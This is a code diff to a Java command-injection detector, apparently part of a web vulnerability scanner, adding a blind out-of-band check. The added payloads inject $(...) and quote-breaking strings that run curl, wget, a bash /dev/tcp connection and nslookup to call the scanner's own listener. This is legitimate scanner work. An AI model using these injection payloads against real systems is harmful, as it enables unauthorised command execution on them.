@@ -5,6 +5,7 @@ import dev.brisach.core.Proof;
 import dev.brisach.core.Severity;
 import dev.brisach.deploy.probe.Kind.Encoding;
 import dev.brisach.deploy.probe.Kind.Placement;
+import dev.brisach.kit.listen.Listener;
 import dev.brisach.kit.wire.Exchange;
 import dev.brisach.kit.wire.WireException;
 import java.util.List;
@@ -15,8 +16,9 @@ import org.jspecify.annotations.Nullable;
 /**
  * Command injection (CWE-78): a shell computes the product of two random numbers and prints it
  * between random letters. Where no shell is in between, the program that is started may take the
- * value as an option (CWE-88, a kind of CWE-77): asked for its version it tells it. Nothing but
- * {@code echo}, arithmetic and that question is ever sent.
+ * value as an option (CWE-88, a kind of CWE-77): asked for its version it tells it. What shows
+ * nowhere calls our listener. Nothing but {@code echo}, arithmetic, that question and that call is
+ * ever sent.
  */
 final class CommandInjection implements Detector {
   private static final Card CARD =
@@ -85,7 +87,7 @@ final class CommandInjection implements Detector {
 
   @Override
   public Verdict examine(Examination examination) throws WireException {
-    for (Encoding encoding : examination.point().kind().encodings()) {
+    for (Encoding encoding : examination.point().encodings()) {
       for (Pairs.Echo way : WAYS) {
         Verdict verdict =
             Pairs.echoed(
@@ -103,7 +105,41 @@ final class CommandInjection implements Detector {
         return verdict;
       }
     }
-    return Verdict.CLEAN;
+    return blind(examination);
+  }
+
+  /** A command that shows nothing calls our listener by whatever the machine has to call with. */
+  private static Verdict blind(Examination examination) throws WireException {
+    Listener listener = examination.sender().listener();
+    if (listener == null) {
+      return Verdict.CLEAN;
+    }
+    return Callback.sown(
+        examination,
+        listener,
+        List.of(
+            token -> "$(" + caller(listener, token) + ")",
+            token -> "';" + caller(listener, token) + ";'"),
+        Placement.APPEND,
+        false,
+        "a shell runs what is put behind the value, and calls our listener");
+  }
+
+  private static String caller(Listener listener, String token) {
+    String url = listener.urlFor(token);
+    return "curl -s "
+        + url
+        + "||wget -qO- "
+        + url
+        + "||echo GET /"
+        + token
+        + "|bash -c cat\\>/dev/tcp/127.0.0.1/"
+        + listener.httpPort()
+        + "||nslookup -port="
+        + listener.dnsPort()
+        + " "
+        + listener.hostFor(token)
+        + " 127.0.0.1";
   }
 
   /** The value becomes an option of a program, which the same letters otherwise written do not. */
